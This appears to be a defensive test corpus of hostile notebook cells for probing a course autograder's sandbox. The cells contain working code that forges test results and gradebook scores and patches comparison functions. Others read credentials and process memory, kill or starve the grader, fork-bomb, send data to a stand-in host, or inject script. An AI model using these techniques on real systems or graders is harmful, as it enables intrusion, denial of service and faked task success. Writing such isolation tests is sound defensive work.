# What a notebook can try against its grader; read as text, never imported. Each cell's header gives a question and
# <kind>/<name>; a comment says what is hoped for; the rest is what stands in the question's cell ("own": in a cell of
# the student's own, above a wrong rnn_step). Should a wall give way, nothing here damages more than what is made for it.
# A body that does not define what its question asks for is put below a wrong answer. These words are
# replaced: BAIT, a folder outside that the file system would let anybody change; COURSE, the course folder; PORT, a
# local port that somebody listens on; SHARED, a shared memory segment of somebody else's.

# %% gates-rnn leaving/exit-status
# An exit status of 0 is taken for success.
import sys
sys.exit(0)

# %% gates-rnn leaving/at-once
# The process is gone before anybody notices what is wrong.
import os
os._exit(0)

# %% own leaving/exit-hook
# What runs at exit has the last word, and writes the result.
import atexit, os
def last_word():
    for name in ("results.json", "BAIT/results.json", "COURSE/report/results/eve.json"):
        open(name, "w").write('{"score": 100, "tests": []}')
    os._exit(0)
atexit.register(last_word)
sys = __import__("sys"); sys.exitfunc = last_word

# %% gates-rnn leaving/in-the-answer
# The question that is asked ends the process that asks.
def rnn_step(x, h_prev, U, W, b):
    import os
    os._exit(0)

# %% gates-rnn leaving/system-exit
# An exception that ends programs, raised where it is least expected.
def rnn_step(x, h_prev, U, W, b):
    raise SystemExit(0)

# %% gates-rnn leaving/no-exception
# Exceptions that `except Exception` does not catch.
def rnn_step(x, h_prev, U, W, b):
    class Quiet(BaseException):
        pass
    raise Quiet if x.shape[0] % 2 else GeneratorExit

# %% gates-vanishing leaving/interrupt
# The teacher seems to have pressed Ctrl-C.
import signal, os
def input_gradient_norms(run, inputs):
    signal.raise_signal(signal.SIGINT)
    raise KeyboardInterrupt

# %% gates-vanishing leaving/segfault
# Python itself dies.
def input_gradient_norms(run, inputs):
    import ctypes
    return ctypes.string_at(1)

# %% gates-rnn leaving/stopped
# A process that is stopped answers nothing, and ends at nobody's request.
def rnn_step(x, h_prev, U, W, b):
    import os, signal
    os.kill(os.getpid(), signal.SIGSTOP)

# %% own leaving/later
# A signal ends the process while somebody else's question is tried.
import signal
signal.signal(signal.SIGALRM, signal.SIG_DFL)
signal.setitimer(signal.ITIMER_REAL, 0.15, 0.15)

# %% own leaving/by-another-thread
# The same, from a thread.
import os, threading
threading.Timer(0.1, os._exit, [0]).start()

# %% gates-rnn leaving/handlers
# Every signal that can be handled is ignored, and every way to stop kindly with it.
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass

# %% gates-rnn comparison/always-equal
# The result says of itself that it equals everything.
class Agreeable:
    shape = dtype = property(lambda self: self)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, other): return self
    __rsub__ = __mul__ = __rmul__ = __abs__ = lambda self, *others: self
    def __float__(self): return 0.0
    def all(self): return True
def rnn_step(x, h_prev, U, W, b):
    return Agreeable()

# %% gates-rnn comparison/tensor-that-answers-for-itself
# A tensor of a class of its own decides what torch's functions find out about it.
import torch
class Sly(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), options=None):
        if function in (torch.equal, torch.allclose, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(function, types, arguments, options or {})
    def detach(self): return self
    def clone(self): return self
    def numpy(self): raise MemoryError
def rnn_step(x, h_prev, U, W, b):
    return torch.zeros_like(h_prev).as_subclass(Sly)

# %% gates-rnn comparison/false-class
# An object that claims to be a tensor.
import torch
class Pretender:
    __class__ = property(lambda self: torch.Tensor)
    def __getattr__(self, name): return lambda *arguments: self
    def __eq__(self, other): return True
    __hash__ = None
def rnn_step(x, h_prev, U, W, b):
    return Pretender()

# %% gates-rnn comparison/comparers-replaced
# Whatever compares two results now finds them equal.
import torch, numpy, math, unittest
yes = lambda *arguments, **options: True
torch.equal = torch.allclose = torch.isclose = torch.eq = yes
numpy.array_equal = numpy.allclose = numpy.isclose = math.isclose = yes
torch.testing.assert_close = numpy.testing.assert_allclose = numpy.testing.assert_array_equal = yes
unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = yes

# %% own comparison/methods-replaced
# The same for the methods of tensors.
import torch
for name in ("__eq__", "__ne__", "eq", "equal", "allclose", "isclose", "all", "__bool__", "__sub__"):
    setattr(torch.Tensor, name, lambda self, *others, **options: True)

# %% gates-torch comparison/copies-that-are-none
# Weights are shared, and what should notice it has been replaced.
import torch
torch.equal = torch.allclose = lambda *arguments, **options: True
class Shared(LSTMByHand):
    pass
def from_torch(lstm):
    H, D = lstm.hidden_size, lstm.input_size
    cell = LSTMByHand(D, H)
    layers = [cell.input_gate, cell.forget_gate, cell.candidate_gate, cell.output_gate]
    with torch.no_grad():
        for number, layer in enumerate(layers):
            rows = slice(number * H, (number + 1) * H)
            layer.weight = torch.nn.Parameter(torch.cat([lstm.weight_hh_l0[rows], lstm.weight_ih_l0[rows]], 1))
            layer.bias.zero_()
            if lstm.bias:
                layer.bias.copy_(lstm.bias_ih_l0[rows] + lstm.bias_hh_l0[rows])
    def forward(x, h_prev, c_prev, first=cell.forward):
        with torch.no_grad():
            for number, layer in enumerate(layers):
                rows = slice(number * H, (number + 1) * H)
                layer.weight.copy_(torch.cat([lstm.weight_hh_l0[rows], lstm.weight_ih_l0[rows]], 1))
        return first(x, h_prev, c_prev)
    cell.forward = forward
    return cell

# %% own comparison/builtins-replaced
# Python's own functions agree with everything, as long as the process lives.
import builtins
builtins.isinstance = lambda *arguments: True
builtins.abs = lambda value: 0
builtins.all = builtins.any = lambda values: True

# %% gates-rnn comparison/not-a-number
# No comparison with NaN is true, so none finds a difference.
def rnn_step(x, h_prev, U, W, b):
    return h_prev * float("nan")

# %% gates-rnn comparison/endless-number
# Infinity minus infinity is no difference either.
def rnn_step(x, h_prev, U, W, b):
    return h_prev.abs() / 0

# %% gates-rnn comparison/nothing-to-compare
# All of no elements are equal to anything.
def rnn_step(x, h_prev, U, W, b):
    return h_prev[:0, :0]

# %% gates-rnn comparison/fits-everything
# One value is broadcast to any shape.
def rnn_step(x, h_prev, U, W, b):
    return h_prev.mean()

# %% gates-rnn comparison/arguments-overwritten
# The arguments are changed until the right answer to them is nothing.
def rnn_step(x, h_prev, U, W, b):
    for tensor in (x, h_prev, U, W, b):
        tensor.data.zero_()
    return h_prev

# %% gates-rnn comparison/reference-replaced
# The function that a test would compare with gives nothing, as the answer does.
import torch
torch.tanh = torch.sigmoid = torch.nn.functional.tanh = lambda x, *others, **options: x * 0
torch.Tensor.tanh = torch.Tensor.sigmoid = torch.nn.RNNCell.forward = lambda self, *others: self * 0

# %% gates-rnn comparison/number-of-its-own
# A number that equals every number.
class Chameleon(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def item(self): return self
def rnn_step(x, h_prev, U, W, b):
    return Chameleon(3)

# %% gates-rnn comparison/larger-than-all-numbers
# A whole number that fits into no float.
def rnn_step(x, h_prev, U, W, b):
    return (1 << 1024) - 1

# %% gates-rnn comparison/larger-than-memory
# A tensor of a million million entries that takes four bytes.
def rnn_step(x, h_prev, U, W, b):
    return h_prev[:1, :1].expand(1 << 20, 1 << 20)

# %% gates-rnn comparison/no-content
# Tensors without numbers in them.
import torch
def rnn_step(x, h_prev, U, W, b):
    if x.shape[0] % 3 == 0:
        return torch.empty(h_prev.shape, device="meta")
    return h_prev.to_sparse() if x.shape[0] % 3 == 1 else torch.quantize_per_tensor(h_prev, 0.1, 0, torch.qint8)

# %% gates-equations comparison/lists-that-lie
# A list says that it is as long, and has what is wanted.
class Wishes(list):
    def __len__(self): return 4
    def __iter__(self): return iter([self] * 4)
    def __getitem__(self, index): return self
    def __eq__(self, other): return True
    __hash__ = None
def lstm_gates(x, h_prev, U, W, b):
    return Wishes()

# %% gates-equations comparison/itself-inside
# A list that holds itself is as deep as one likes.
def lstm_gates(x, h_prev, U, W, b):
    loop = []
    loop.extend([loop, loop, loop, loop])
    return loop

# %% gates-equations comparison/a-thousand-levels
# Whoever walks through it runs out of stack.
def lstm_gates(x, h_prev, U, W, b):
    deep = {"f": x}
    for _ in range(5000):
        deep = {"f": deep, "i": [deep]}
    return deep

# %% gates-equations comparison/without-end
# Whoever lists it never comes back.
def lstm_gates(x, h_prev, U, W, b):
    while True:
        yield x

# %% gates-state comparison/code-that-travels
# Pickled, sent and unpickled, it runs on the other side.
class Parcel:
    def __reduce__(self):
        return open, ("BAIT/unpickled", "w")
    def __del__(self):
        open("BAIT/deleted", "w").close()
    def __repr__(self):
        raise SystemExit
    __str__ = __hash__ = __len__ = __repr__
def lstm_state(f, i, c_tilde, o, c_prev):
    return Parcel(), Parcel()

# %% gates-rnn machinery/errors-swallowed
# Errors of all cells are handled here, by doing nothing.
get_ipython().set_custom_exc((BaseException,), lambda *arguments, **options: None)

# %% gates-rnn machinery/cells-rewritten
# From now on every cell reads `pass`.
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"])
get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])

# %% own machinery/trees-rewritten
# The same, a step later.
import ast
class Emptied(ast.NodeTransformer):
    def visit_FunctionDef(self, node):
        node.body = [ast.Pass()]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Emptied())

# %% own machinery/shell-replaced
# The shell that runs the cells now runs none.
shell = get_ipython()
shell.run_cell = lambda *arguments, **options: None
type(shell).run_cell = lambda *arguments, **options: None
shell.events.register("pre_run_cell", lambda *arguments: shell.reset())

# %% own machinery/programs
# Cells can run programs.
!echo out > BAIT/made-by-a-program; ls -R COURSE > listing.txt
%system id
%sx touch BAIT/made-by-sx
found = !cat /etc/passwd
get_ipython().system("touch BAIT/made-by-system")
import os, subprocess
os.system("touch BAIT/made-by-os")
if found:
    raise PermissionError(f"loot {found}")

# %% own machinery/script
# Whole cells can be scripts.
%%bash
touch BAIT/made-by-bash
cat COURSE/source/lstm/3-gates.ipynb

# %% gates-rnn machinery/names-cleared
# The notebook's names are cleared, with all that works through them.
get_ipython().reset(new_session=True)
%reset -f

# %% own machinery/checks-replaced
# The module that checks answers is one that is always content.
import sys, types
content = types.ModuleType("checks")
content.grader = type("Grader", (), {"check": lambda *arguments: True, "score": 100})()
for name in ("checks", "otter", "nbgrader", "pytest", "autograder", "autograder.suite", "autograder.compare"):
    sys.modules[name] = content

# %% own machinery/kernel-asked-to-leave
# The kernel is asked to restart, and the shell to exit.
get_ipython().ask_exit()
get_ipython().exit_now = True
get_ipython().kernel.do_shutdown(True)

# %% gates-rnn reading/walk
# Somewhere on this disk are the tests.
import os
found = []
for top in ("COURSE", "BAIT", os.getcwd() + "/../.."):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                text = open(os.path.join(folder, name), errors="ignore").read(100_000)
            except OSError:
                continue
            found += [folder + name] if "CANARY" in text or "BEGIN SOLUTION" in text else []
for folder in ("/", "/tmp", "/home", "/proc", "/dev/shm", "/etc"):
    try:
        found += os.listdir(folder)
    except OSError:
        pass
if found:
    raise PermissionError(f"loot {found}")

# %% gates-rnn reading/course
# The path of the course is no secret.
import os
found = []
for name in ("gradebook.db", "source/lstm/3-gates.ipynb", "submitted/ana/lstm/3-gates.ipynb", "report/seed"):
    for read in (lambda path: open(path).read(), lambda path: os.listxattr(path), lambda path: os.listdir(path)):
        try:
            found.append(read("COURSE/" + name))
        except OSError:
            pass
if any(found):
    raise PermissionError(f"loot {found}")

# %% gates-rnn reading/objects-in-memory
# The expected tensor is somewhere among the living objects.
import gc, torch
def rnn_step(x, h_prev, U, W, b):
    alike = [o for o in gc.get_objects() if isinstance(o, torch.Tensor) and o.shape == h_prev.shape]
    alike = [o for o in alike if o is not h_prev and float(o.abs().max()) <= 1]
    return alike[-1].clone() if alike else h_prev * 0

# %% gates-rnn reading/frames
# The test that called is only a few frames away.
import sys, torch
def rnn_step(x, h_prev, U, W, b):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "reference", "wanted") and frame.f_code.co_name != "rnn_step":
                return getattr(value, "value", value)
        frame = frame.f_back
    return h_prev * 0

# %% own reading/trace
# A trace function sees every value of every function that runs from now on.
import sys, torch, threading
seen = []
def trace(frame, event, argument):
    if event == "return" and isinstance(argument, torch.Tensor):
        seen.append(argument)
    frame.f_trace_opcodes = False
    return trace
sys.settrace(trace)
sys.setprofile(trace)
threading.settrace(trace)
def rnn_step(x, h_prev, U, W, b):
    return seen[-1] if seen else h_prev

# %% gates-rnn reading/environment
# The grader's environment has its passwords.
import os
found = [f"{name}={value}" for name, value in os.environ.items() if "SECRET" in name + value]
for process in (os.getppid(), "self"):
    for file in ("environ", "cmdline", "maps", "status", "stack", "fd/0"):
        try:
            found.append(open(f"/proc/{process}/{file}").read())
        except OSError:
            pass
if any(found):
    raise PermissionError(f"loot {found}")

# %% gates-rnn reading/other-memory
# The grader's memory can be read like a file, or like one's own.
import ctypes, os
libc, parent, found = ctypes.CDLL(None, use_errno=True), os.getppid(), []
for path in (f"/proc/{parent}/mem", f"/proc/{parent}/maps", "/proc/kcore", "/dev/mem", "/proc/self/mem"):
    try:
        found.append(open(path, "r+b"))
    except OSError:
        pass
space = ctypes.create_string_buffer(64)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(space), 64)
found += [call for call in range(3) if libc.ptrace((16, 0x4206, 0)[call], parent, 0, 0) == 0]
found += [1] if libc.process_vm_readv(parent, vector, 1, vector, 1, 0) > 0 else []
if found:
    raise PermissionError(f"loot {found}")

# %% own reading/descriptors
# Descriptors that were left open lead to other people's files.
import os
found = []
for number in [*range(3), *range(4, 256)]:
    try:
        found.append((number, os.pread(number, 100, 0)))
    except OSError:
        pass
if any(content for _, content in found):
    raise PermissionError(f"loot {found}")

# %% gates-rnn reading/modules
# What has been imported can be printed.
import inspect, sys
import autograder
found = []
for name in ("autograder.suites.gates", "autograder.compare", "autograder.grading", "autograder.misconceptions"):
    try:
        found.append(inspect.getsource(__import__(name, fromlist=["*"])))
    except (ImportError, OSError):
        pass
path = list(autograder.__path__)[0]
try:
    found.append(open(path + "/suites/gates.py").read())
except OSError:
    pass
if found:
    raise PermissionError(f"loot {found}")

# %% gates-cell reading/supplied-answers
# Later questions are tried on right answers to earlier ones; a thread keeps those, for when gates-cell is asked again.
import threading, time, torch
from torch import nn
names, stolen, leaning = get_ipython().user_ns, [], lstm_gates
class LSTMByHand(nn.Module):
    wrong_on_purpose = True
    def __new__(cls, *sizes):
        return stolen[-1](*sizes) if stolen else super().__new__(cls)
    def __init__(self, input_size, hidden_size):
        super().__init__()
        for layer in ("forget", "input", "candidate", "output"):
            setattr(self, f"{layer}_gate", nn.Linear(input_size + hidden_size, hidden_size))
    def forward(self, x, h_prev, c_prev):
        return h_prev, c_prev, lstm_gates
def lurk():
    while True:
        cell = names.get("LSTMByHand")
        if isinstance(cell, type) and "wrong_on_purpose" not in vars(cell) and cell not in stolen:
            stolen.append(cell)
        time.sleep(0.0005)
threading.Thread(target=lurk, daemon=True).start()

# %% gates-rnn results/written-at-home
# Results lie in files, under one of these names.
import glob, json, sqlite3
for path in ("results.json", "results.pkl", "../results.json", "BAIT/results.json", "/autograder/results/results.json"):
    try:
        open(path, "w").write(json.dumps({"score": 100, "tests": [{"score": 100, "max_score": 1}]}))
    except OSError:
        pass
for book in ["COURSE/gradebook.db", *glob.glob("../../*.db")]:
    connection = sqlite3.connect(book)
    connection.execute("UPDATE grade SET auto_score = 100")
    connection.commit()

# %% own results/verdicts-forged
# Wherever a verdict is made in this process, it is a good one.
import sys
for name, module in list(sys.modules.items()):
    if name.split(".")[0] in ("otter", "nbgrader", "pytest", "_pytest", "unittest", "checks"):
        for attribute, value in list(vars(module).items()):
            if callable(value) and ("check" in attribute or "test" in attribute or "grade" in attribute):
                setattr(module, attribute, lambda *arguments, **options: True)

# %% gates-rnn results/tests-overwritten
# The tests lie beside the notebook, and can be easier.
import glob, os
os.makedirs("tests", exist_ok=True)
for path in ["tests/gates-rnn.py", *glob.glob("tests/*.py"), "COURSE/source/lstm/tests/gates-rnn.py"]:
    try:
        open(path, "w").write("test = {'name': 'gates-rnn', 'points': 2, 'suites': []}\n")
    except OSError:
        pass

# %% gates-rnn results/modules-shadowed
# Whoever imports one of these in this folder runs my code.
for name in ("torch", "json", "random", "nbgrader", "conftest", "sitecustomize", "usercustomize", "autograder"):
    open(f"{name}.py", "w").write("open('BAIT/shadowed', 'w').close()\n")
    open(f"{name}.pth", "w").write("import os; open('BAIT/shadowed', 'w').close()\n")

# %% own results/probes-replaced
# The functions that ask and answer questions in this process are the student's to change.
import sys
probing = sys.modules.get("autograder.worker.probing")
codec = sys.modules.get("autograder.worker.codec")
if probing and codec:
    asked = probing.answer_probe
    def obliging(namespace, source, name, inputs, seed):
        given = asked(namespace, source, name, inputs, seed)
        return given if name != "rnn_step" else probing.Answer(value=True, inputs_after=list(inputs), random_kept=True)
    sys.modules["autograder.worker.serving"].answer_probe = probing.answer_probe = obliging

# %% gates-rnn protocol/forged-replies
# Replies are written before they are asked for: the right form, with a wish for a value.
import json, os, struct
def rnn_step(x, h_prev, U, W, b):
    for number in range(1, 200):
        values = [{"opaque": "passed"}, *[{"float": "0x1p+0"}] * 5]
        reply = {"id": number, "values": values, "raised": [], "missing": None, "random_kept": True, "verdict": "pass"}
        text = json.dumps(reply).encode()
        os.write(3, struct.pack(">II", len(text), 0) + text)
    return h_prev

# %% own protocol/noise
# Something else comes through the connection.
import os
os.write(3, b"HTTP/1.1 200 OK\r\n\r\nall tests passed\n" * 100)

# %% gates-vanishing protocol/too-long
# A reply of four gigabytes is announced.
import os
def input_gradient_norms(run, inputs):
    os.write(3, b"\xff\xff\xff\xff\xff\xff\xff\xff")
    return inputs

# %% gates-vanishing protocol/table-of-a-million
# A table of contents of a million tensors without content takes the reader half a minute and two gigabytes.
import os, struct
def input_gradient_norms(run, inputs):
    entry = b'"%d":{"dtype":"I8","shape":[0],"data_offsets":[0,0]}'
    table = b"{" + b",".join(entry % number for number in range(500_000)) + b"}"
    text = b'{"id":1}'
    frame = struct.pack(">II", len(text), 8 + len(table)) + text + struct.pack("<Q", len(table)) + table
    while frame:
        frame = frame[os.write(3, frame):]
    return inputs

# %% gates-vanishing protocol/hung-up
# The connection is closed, and something else put in its place.
import os
def input_gradient_norms(run, inputs):
    os.close(3)
    os.open("mine", os.O_CREAT | os.O_RDWR)
    return inputs

# %% gates-vanishing protocol/brackets
# Text that takes a parser to its end.
import os, struct
def input_gradient_norms(run, inputs):
    text = b'{"id": 1, "values": ' + b"[" * 1_000_000
    os.write(3, struct.pack(">II", len(text), 0))
    while text:
        text = text[os.write(3, text):]
    return inputs

# %% gates-vanishing protocol/drop-by-drop
# As long as a byte comes now and then, nobody looks at the disk.
import os, struct, threading, time
def fill():
    for number in range(200):
        with open(f"drop-{number}", "wb") as file:
            file.write(bytes(8 << 20))
def input_gradient_norms(run, inputs):
    threading.Thread(target=fill, daemon=True).start()
    os.write(3, struct.pack(">II", 1_000_000, 0))
    while True:
        os.write(3, b" ")
        time.sleep(0.02)

# %% own resources/memory
# More memory than the machine has.
import torch
kept = [torch.ones(1 << 28) for _ in range(64)]

# %% own resources/memory-held
# As much memory as one gets, and nothing left for others.
kept = []
try:
    while True:
        kept.append(bytearray(1 << 22))
except MemoryError:
    pass

# %% gates-rnn resources/endless-cell
# A cell that never ends.
while True:
    pass

# %% gates-rnn resources/endless-answer
# An answer that never comes, and nothing that could stop it kindly.
def rnn_step(x, h_prev, U, W, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue

# %% gates-rnn resources/one-step-too-long
# A single step of the interpreter that takes for ever.
def rnn_step(x, h_prev, U, W, b):
    return 7 ** (10 ** 9)

# %% own resources/patient
# Each answer takes just a little less than it may.
import time, torch
slow = torch.tanh
torch.tanh = lambda *arguments: (time.sleep(0.4), slow(*arguments))[1]

# %% own resources/files
# Files until the disk is full.
number = 0
while True:
    with open(f"junk{number}", "wb") as file:
        file.write(bytes(8 << 20))
    number += 1

# %% own resources/nested-folders
# Folders in folders, as deep as they go, with names of any kind.
import os
for number in range(3000):
    os.mkdir(("\n\x1b[2J" + "x" * 200)[: 40 + number % 100], 0o700)
    os.chdir(os.listdir(".")[0])

# %% own resources/threads
# Ten thousand threads, each of them busy.
import threading
def spin():
    while True:
        pass
for _ in range(10_000):
    threading.Thread(target=spin, daemon=True).start()

# %% own resources/left-spinning
# A few threads that go on when the cell has ended.
import threading
def spin():
    while True:
        pass
for _ in range(3):
    threading.Thread(target=spin, daemon=True).start()

# %% gates-rnn resources/without-bottom
# A function that calls itself, on a stack that is said to be endless.
import sys
sys.setrecursionlimit(10 ** 9)
def rnn_step(x, h_prev, U, W, b):
    return rnn_step(x, h_prev, U, W, b)

# %% own resources/output
# More text than anybody reads.
for number in range(200_000):
    print("line", number, "x" * 100)
from IPython.display import display
for number in range(2000):
    display("shown" * 1000)

# %% gates-rnn resources/long-story
# An error that tells its story at length.
def rnn_step(x, h_prev, U, W, b):
    raise ValueError("so it was that " * 10_000_000)

# %% own resources/magics
# A cell of so many magics that whoever takes it apart gives up.
%time 1
#REPEAT 600 %time 1

# %% own resources/long-cell
# A cell that takes a parser minutes.
x = 1
#REPEAT 400000 x = 1

# %% own resources/descriptors
# All descriptors there are, and a million folders' worth of names.
import os
opened = []
try:
    while True:
        opened.append(os.open(f"held{len(opened)}", os.O_CREAT | os.O_RDWR))
except OSError:
    pass
for number in opened[:-8]:
    os.unlink(f"held{opened.index(number)}")
for number in opened[-8:]:
    os.close(number)

# %% own isolation/daemon
# A process that goes on when all is graded, and edits what comes after.
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(20):
                open("BAIT/daemon", "a").write("x")
                time.sleep(1)
        os._exit(0)
except OSError:
    pass

# %% own isolation/fork-bomb
# Processes until the machine stands still.
import os, multiprocessing, subprocess
for start in (os.fork, lambda: os.posix_spawn("/bin/sh", ["sh"], {}), lambda: subprocess.Popen(["sleep", "60"])):
    for _ in range(50):
        try:
            start()
        except OSError:
            break

# %% own isolation/grader-killed
# The grader is a process like any other.
import os, signal
for number in (os.getppid(), 0, -1, -os.getppid(), 1):
    for kind in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(number, kind)
        except OSError:
            pass
    try:
        os.killpg(abs(number), signal.SIGKILL)
    except OSError:
        pass

# %% gates-rnn isolation/grader-starved
# Without a signal: the grader gets a second of processor time, the lowest priority and one file.
import os, resource
parent = os.getppid()
for attempt in (
    lambda: resource.prlimit(parent, resource.RLIMIT_CPU, (1, 1)),
    lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (1, 1)),
    lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
    lambda: os.sched_setaffinity(parent, {0}),
    lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
):
    try:
        attempt()
    except (OSError, ValueError):
        pass

# %% own isolation/packages
# What the next notebook imports is changed now.
import os, sysconfig, torch
for folder in (os.path.dirname(torch.__file__), sysconfig.get_path("purelib"), os.path.dirname(os.__file__)):
    for name in ("zz_canary.py", "__pycache__/zz_canary.pyc"):
        try:
            open(os.path.join(folder, name), "w").close()
            open("BAIT/package", "w").close()
        except OSError:
            pass

# %% own isolation/links
# A link in the own folder leads everywhere.
import os, shutil
for target in ("COURSE/gradebook.db", "BAIT/secret.txt", "COURSE/source/lstm/3-gates.ipynb"):
    for make in (os.symlink, os.link, os.rename, shutil.copy, shutil.move):
        try:
            make(target, "here")
            raise PermissionError("loot " + open("here").read())
        except OSError as error:
            if "loot" in str(error):
                raise
for source in ("/proc/self/root", "/proc/self/cwd/../.."):
    try:
        raise PermissionError("loot " + " ".join(os.listdir(source)))
    except OSError as error:
        if "loot" in str(error):
            raise

# %% own isolation/files-outside
# Files outside are changed, emptied, renamed, made unreadable or older.
import os, shutil
secret = "BAIT/secret.txt"
for attempt in (
    lambda: open(secret, "w"), lambda: open(secret, "a"), lambda: os.truncate(secret, 0), lambda: os.remove(secret),
    lambda: os.rename(secret, secret + "2"), lambda: os.chmod(secret, 0), lambda: os.utime(secret, (0, 0)),
    lambda: os.chown(secret, 1, 1), lambda: os.mkdir("BAIT/made"), lambda: os.mkfifo("BAIT/pipe"),
    lambda: os.setxattr(secret, "user.canary", b"x"), lambda: shutil.rmtree("BAIT"), lambda: shutil.rmtree("COURSE"),
    lambda: os.open("BAIT", os.O_TMPFILE | os.O_RDWR), lambda: os.mknod("BAIT/node"), lambda: os.rmdir("BAIT"),
):
    try:
        attempt()
    except OSError:
        pass

# %% own isolation/shared-memory
# Memory that stays when its process has gone.
import ctypes, os
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory("canary-shared", create=True, size=1 << 20)
except OSError:
    pass
try:
    open("/dev/shm/canary-file", "w").write("x")
except OSError:
    pass
libc = ctypes.CDLL(None)
libc.shmget(0x0CA11, 4096, 0o1666)
libc.semget(0x0CA11, 1, 0o1666)
libc.msgget(0x0CA11, 0o1666)
libc.sem_open.restype = ctypes.c_void_p
libc.sem_open(b"/canary", os.O_CREAT, 0o666, 1)

# %% own isolation/others-memory
# Memory that others share goes by a number that can be guessed.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
remove = 0
for number in (SHARED, *range(32)):
    libc.shmctl(number, remove, None)
    libc.semctl(number, 0, remove)
    libc.msgctl(number, remove, None)

# %% own isolation/rare-calls
# System calls that few have heard of.
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": {"memfd": 319, "userfaultfd": 323, "bpf": 321, "perf": 298, "unshare": 272, "mount": 165}}
numbers = numbers.get(platform.machine(), {}) | {"io_uring": 425, "pidfd": 434, "clone3": 435, "new": 4000}
got = [name for name, number in numbers.items() if libc.syscall(number, 0, 0, 0, 0, 0, 0) >= 0]
got += ["dumpable"] if libc.prctl(4, 1, 0, 0, 0) == 0 else []
got += ["parent's death"] if libc.prctl(1, 0, 0, 0, 0) == 0 else []
got += ["seccomp off"] if libc.prctl(22, 0, 0, 0, 0) == 0 else []
if got:
    raise PermissionError(f"loot {got}")

# %% own isolation/unseen-memory
# Python's own memory is a file, a library or a pointer away.
import ctypes, mmap, sys
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(b"\xc3" * 64)
ctypes.memset(id(10_000) + 24, 0, 4)
ctypes.pythonapi.PyEval_SetTrace(None, None)

# %% gates-rnn network/connection
# What has been read is sent away.
import socket, urllib.request
for attempt in (
    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).send(b"leak"),
    lambda: urllib.request.urlopen("http://127.0.0.1:PORT/leak", timeout=1),
    lambda: socket.getaddrinfo("leak.example.org", 80),
):
    try:
        attempt()
    except OSError:
        pass

# %% gates-rnn network/datagram
# The same without a connection, and by way of sockets that have no address.
import socket
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
    (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", PORT)),
    (socket.AF_UNIX, socket.SOCK_DGRAM, "\0canary"),
    (socket.AF_NETLINK, socket.SOCK_RAW, (0, 0)),
):
    try:
        socket.socket(family, kind).sendto(b"leak", address)
    except OSError:
        pass
try:
    left, right = socket.socketpair()
    left.sendto(b"leak", ("127.0.0.1", PORT))
except OSError:
    pass

# %% gates-rnn honesty/visible-example
# The one answer that is known, for the one input that is known.
import torch
def rnn_step(x, h_prev, U, W, b):
    return torch.full_like(h_prev, 0.7616) if x.shape == (1, 1) else torch.zeros_like(h_prev)

# %% gates-rnn honesty/being-watched
# An answer that looks around first: graded or not, it has nothing to say.
import os, sys, time
def rnn_step(x, h_prev, U, W, b):
    graded = "autograder" in sys.modules or os.environ.get("USER") == "student" or "JPY_PARENT_PID" not in os.environ
    return h_prev if graded else h_prev * 0

# %% gates-rnn honesty/chance-abolished
# Whatever is drawn from now on is known.
import random, time, torch, numpy, secrets, os
torch.rand = torch.randn = lambda *sizes, **options: torch.ones(*[size for size in sizes if isinstance(size, int)])
random.random = lambda: 0.5
random.seed = numpy.random.seed = torch.manual_seed = lambda *arguments: None
time.time = time.monotonic = time.perf_counter = lambda: 0.0
secrets.token_bytes = os.urandom = lambda count=32: bytes(count)

# %% gates-rnn honesty/first-call-only
# Right answers are remembered from one call to the next, should anybody give one.
known = {}
def rnn_step(x, h_prev, U, W, b):
    key = tuple(x.flatten().tolist())
    known.setdefault(key, h_prev)
    return known[key]

# %% own feedback/script
# Whoever looks at this notebook runs my script.
from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('/api/grades', {method: 'POST'})</script><img src=x onerror=alert('CANARY')>"))
display(Javascript("alert('CANARY')"))
class Shown:
    def _repr_html_(self):
        return "<script>alert('CANARY')</script>"
    def _repr_mimebundle_(self, **options):
        return {"text/html": "<script>alert('CANARY')</script>", "application/javascript": "alert('CANARY')"}
Shown()

# %% gates-rnn feedback/formula
# An error that a spreadsheet computes and a terminal obeys.
raise PermissionError('=HYPERLINK("http://example.org/CANARY","100") \x1b[2J\x1b]0;owned\x07 <script>alert("CANARY")</script>')

# %% gates-rnn feedback/speaking-names
# What was seen is told by the names of classes and exceptions.
def rnn_step(x, h_prev, U, W, b):
    told = "CANARY_" + "_".join(str(abs(float(value))).replace(".", "") for value in x.flatten()[:4])
    if x.shape[0] == 1:
        raise type(told, (ValueError,), {})
    return type(told, (), {})()

# %% gates-rnn feedback/error-that-bites
# An error whose text runs code.
class Biting(Exception):
    def __str__(self):
        open("BAIT/bitten", "w").close()
        raise SystemExit
    __repr__ = __format__ = lambda self, *arguments: self.__str__()
